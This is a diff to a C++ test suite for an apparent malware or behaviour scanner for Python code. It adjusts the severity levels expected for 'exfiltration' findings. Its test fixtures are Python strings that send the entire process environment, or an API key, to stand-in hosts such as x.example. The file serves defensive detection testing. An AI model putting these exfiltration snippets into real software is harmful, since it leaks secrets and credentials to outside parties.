@@ -225,7 +225,9 @@ TEST(Behaviour, SecretOnlyInAFunctionNobodyCallsWeighsLess) {
       "    requests.post('https://x.example/', json=dict(os.environ))\n");
   const Finding* f = Find(fs, "exfiltration");
   ASSERT_NE(f, nullptr) << Rules(fs);
-  EXPECT_LT(f->severity, Severity::kHigh);
+  // The whole environment over the network: one step less (see
+  // WholeEnvironmentSentFromAMethod); other secrets two.
+  EXPECT_LT(f->severity, Severity::kCritical);
   EXPECT_EQ(f->phase, Phase::kRuntime);
 }
 
@@ -354,6 +356,18 @@ TEST(Behaviour, DownloadingCommandsAndPythonLaunchedAtImport) {
   auto fs = Analyze("import subprocess\nsubprocess.call(['git', 'describe'])\n");
   ASSERT_NE(Find(fs, "process-at-import"), nullptr) << Rules(fs);
   EXPECT_EQ(Find(fs, "process-at-import")->severity, Severity::kMedium);
+}
+
+TEST(Behaviour, WholeEnvironmentSentFromAMethod) {
+  ExpectFinding("import os, requests\nclass C:\n    def send(self):\n        s = ''\n"
+                "        for k, v in os.environ.items():\n            s += v\n"
+                "        requests.get('https://x.example/' + s)\n",
+                "exfiltration", Severity::kHigh, Phase::kRuntime);
+  // One secret variable given to its own service from a function: two steps less.
+  auto fs = Analyze("import os, requests\ndef q():\n    requests.get('https://api.example', "
+                    "params={'key': os.environ['API_KEY']})\n", Phase::kRuntime);
+  ASSERT_NE(Find(fs, "exfiltration"), nullptr) << Rules(fs);
+  EXPECT_EQ(Find(fs, "exfiltration")->severity, Severity::kMedium);
 }
 
 TEST(Behaviour, CodeSpeltInEscapes) {
